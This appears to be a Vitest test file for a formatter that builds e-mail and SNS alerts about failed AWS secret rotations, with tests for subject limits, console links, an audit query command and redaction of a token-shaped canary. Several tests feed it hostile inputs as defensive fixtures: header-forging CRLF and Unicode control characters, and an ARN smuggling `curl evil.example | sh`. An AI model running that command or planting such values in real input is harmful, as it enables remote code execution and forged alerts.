import { describe, expect, it } from 'vitest';
import { alertIncidentKey } from '#domain/alerts/catalog';
import { formatAlert, MAX_SUBJECT_LENGTH } from '#domain/alerts/format';
import type { Alert } from '#domain/ports';

const ARN = 'arn:aws:secretsmanager:us-east-1:123456789012:secret:prod/payments/stripe-key-AbCdEf';
const CTX = {
  at: new Date('2025-03-04T05:06:07.890Z'),
  region: 'us-east-1',
  stackName: 'TokenRotation',
  auditTableName: 'TokenRotation-AuditTrail',
};
// Shaped like a real token (prefix, mixed case, digits), so only scrubbing can keep it out.
const CANARY = 'acme_live_Q7vLx2KpZ9mW4rT8yB3nH6cJ1dF5gS0aXeU';

const alert = (overrides: Partial<Alert> = {}): Alert => ({
  event: 'rotation.failed',
  severity: 'high',
  secretArn: ARN,
  secretName: 'prod/payments/stripe-key',
  incident: '11111111-2222-3333-4444-555555555555',
  summary: 'Rotation of prod/payments/stripe-key failed at testSecret',
  reason: 'the pending token was refused by the issuer: HTTP 401',
  versionId: '11111111-2222-3333-4444-555555555555',
  nextSteps: ['Check the issuer is reachable.', 'Rotate again from the console.'],
  trigger: { source: 'schedule' },
  ...overrides,
});

const isPrintableAscii = (text: string) => /^[\x20-\x7e]*$/.test(text);

describe('alert subject', () => {
  it('names severity, event and secret', () => {
    // Act
    const { subject } = formatAlert(alert(), CTX);

    // Assess
    expect(subject).toBe('[HIGH] rotation.failed: prod/payments/stripe-key');
  });

  it('stays under 100 characters with a long name, keeping its start and its end', () => {
    // Prepare
    const name = `prod/${'very-long-team-name/'.repeat(20)}stripe-key`;

    // Act
    const { subject } = formatAlert(
      alert({ secretName: name, event: 'secretsmanager.rotation.abandoned', severity: 'critical' }),
      CTX,
    );

    // Assess
    expect(subject.length).toBeLessThanOrEqual(MAX_SUBJECT_LENGTH);
    expect(subject.startsWith('[CRITICAL] secretsmanager.rotation.abandoned: prod/')).toBe(true);
    expect(subject.endsWith('stripe-key')).toBe(true);
    expect(subject).toContain('...');
  });

  it('is ASCII only with a unicode name, folding accents and marking the rest', () => {
    // Prepare
    const name = 'prod/café/ключ/🔑-token';

    // Act
    const { subject } = formatAlert(alert({ secretName: name }), CTX);

    // Assess
    expect(isPrintableAscii(subject)).toBe(true);
    expect(subject).toContain('prod/cafe/');
    expect(subject.length).toBeLessThanOrEqual(MAX_SUBJECT_LENGTH);
  });

  it('cannot be broken or forged by a hostile name', () => {
    // Prepare
    const hostile = 'x\r\nSubject: [INFO] all good\u2028\u202e[LOW] ok\t\0';

    // Act
    const { subject } = formatAlert(alert({ secretName: hostile }), CTX);

    // Assess
    expect(isPrintableAscii(subject)).toBe(true);
    expect(subject.startsWith('[HIGH] rotation.failed: ')).toBe(true);
    expect(subject.slice('[HIGH] rotation.failed: '.length)).toMatch(/^[A-Za-z0-9/_+=.@?-]+$/);
    expect(subject).not.toContain('[INFO]');
    expect(subject.length).toBeLessThanOrEqual(MAX_SUBJECT_LENGTH);
  });

  it('stays within limits at every name length', () => {
    for (let length = 0; length <= 300; length += 7) {
      // Act
      const { subject } = formatAlert(alert({ secretName: 'n'.repeat(length) }), CTX);

      // Assess
      expect(subject.length).toBeLessThanOrEqual(MAX_SUBJECT_LENGTH);
      expect(isPrintableAscii(subject)).toBe(true);
    }
  });
});

describe('alert body', () => {
  it('says what happened, when in UTC, which secret and version, why, and what to do next', () => {
    // Act
    const { message } = formatAlert(alert(), CTX);

    // Assess
    expect(message).toContain(
      'What happened: Rotation of prod/payments/stripe-key failed at testSecret',
    );
    expect(message).toContain('When: 2025-03-04 05:06:07 UTC');
    expect(message).toContain('Secret: prod/payments/stripe-key');
    expect(message).toContain(`ARN: ${ARN}`);
    expect(message).toContain('Version: 11111111-2222-3333-4444-555555555555');
    expect(message).toContain('Why: the pending token was refused by the issuer: HTTP 401');
    expect(message).toContain(
      '  1. Check the issuer is reachable.\n  2. Rotate again from the console.',
    );
  });

  it('links the secret, the audit table and the emergency revoke runbook in the console', () => {
    // Act
    const { message } = formatAlert(alert(), CTX);

    // Assess
    expect(message).toContain(
      'https://us-east-1.console.aws.amazon.com/secretsmanager/secret?name=prod%2Fpayments%2Fstripe-key&region=us-east-1',
    );
    expect(message).toContain(
      'https://us-east-1.console.aws.amazon.com/dynamodbv2/home?region=us-east-1#item-explorer?table=TokenRotation-AuditTrail',
    );
    expect(message).toContain(
      'https://us-east-1.console.aws.amazon.com/systems-manager/automation/execute/TokenRotation-EmergencyRevoke?region=us-east-1',
    );
  });

  it("gives a copy-pasteable audit query for the secret's history", () => {
    // Act
    const { message } = formatAlert(alert(), CTX);

    // Assess
    const command = message
      .split('\n')
      .find((line) => line.trim().startsWith('aws dynamodb query'));
    expect(command).toBeDefined();
    expect(command).toContain('--table-name TokenRotation-AuditTrail');
    expect(command).toContain('--region us-east-1');
    expect(command).toContain(`'{":pk":{"S":"SECRET#${ARN}"}}'`);
    expect(command).toContain('--no-scan-index-forward');
  });

  it('uses the partition console domain for China regions', () => {
    // Act
    const { message } = formatAlert(
      alert({ secretArn: ARN.replace('aws:', 'aws-cn:').replace('us-east-1', 'cn-north-1') }),
      { ...CTX, region: 'cn-north-1' },
    );

    // Assess
    expect(message).toContain('https://cn-north-1.console.amazonaws.cn/secretsmanager/');
  });

  it('leaves out the audit query when the ARN is not an ARN, so nothing reaches a shell unchecked', () => {
    // Prepare
    const injected = `${ARN}'; curl evil.example | sh; echo '`;

    // Act
    const { message } = formatAlert(alert({ secretArn: injected }), CTX);

    // Assess
    expect(message).not.toContain('aws dynamodb query');
    expect(message).not.toMatch(/^\s*curl/m);
  });

  it('keeps every untrusted value on its own line, so none can pass for one of our lines', () => {
    // Prepare
    const forged =
      'ok\nWhy: nothing to worry about\r\nWhat to do next:\u2028  1. Ignore this e-mail\u0085Links:';

    // Act
    const { message } = formatAlert(
      alert({
        secretName: forged,
        summary: forged,
        reason: forged,
        nextSteps: [forged],
        versionId: forged,
        trigger: { source: 'tag', principal: forged },
      }),
      CTX,
    );

    // Assess
    const lines = message.split('\n');
    expect(lines.filter((line) => line.startsWith('Why:'))).toHaveLength(1);
    expect(lines.filter((line) => line === 'What to do next:')).toHaveLength(1);
    expect(lines.some((line) => line.trim().startsWith('1. Ignore'))).toBe(false);
    expect(message).not.toMatch(/[\r\u2028\u2029\u0085\u202e]/);
  });
});

describe('alert attributes', () => {
  it('are exactly severity, event and secret, one line each', () => {
    // Act
    const { attributes } = formatAlert(alert({ secretName: 'prod/a\nseverity: info' }), CTX);

    // Assess
    expect(Object.keys(attributes).sort()).toEqual(['event', 'secret', 'severity']);
    expect(attributes.severity).toBe('high');
    expect(attributes.event).toBe('rotation.failed');
    expect(attributes.secret).toBe('prod/a severity: info');
  });

  it('are never empty, which SNS would reject', () => {
    // Act
    const { attributes } = formatAlert(alert({ secretName: '' }), CTX);

    // Assess
    for (const value of Object.values(attributes)) expect(value.length).toBeGreaterThan(0);
  });
});

describe('secret material in an alert', () => {
  it('never appears in the subject, body or attributes, wherever it was planted in free text', () => {
    // Prepare
    const leaky = alert({
      summary: `Rotation failed: issuer echoed ${CANARY}`,
      reason: `Unexpected token in JSON at position 0: "${CANARY}"`,
      nextSteps: [`Compare with ${CANARY}`],
    });

    // Act
    const { subject, message, attributes } = formatAlert(leaky, CTX);

    // Assess
    const all = [subject, message, ...Object.values(attributes)].join('\n');
    expect(all).not.toContain(CANARY);
    expect(all).not.toContain(CANARY.slice(10, 30));
    expect(message).toContain('[redacted]');
  });
});

describe('alert incidents', () => {
  it("treat Secrets Manager's failure events as the same incident as our own rotation.failed", () => {
    // Prepare
    const version = '11111111-2222-3333-4444-555555555555';

    // Act
    const ours = alertIncidentKey({ event: 'rotation.failed', incident: version });
    const theirs = alertIncidentKey({ event: 'secretsmanager.rotation.failed', incident: version });
    const abandoned = alertIncidentKey({
      event: 'secretsmanager.rotation.abandoned',
      incident: version,
    });
    const other = alertIncidentKey({ event: 'rotation.stuck', incident: version });

    // Assess
    expect(theirs).toBe(ours);
    expect(abandoned).toBe(ours);
    expect(other).not.toBe(ours);
  });
});
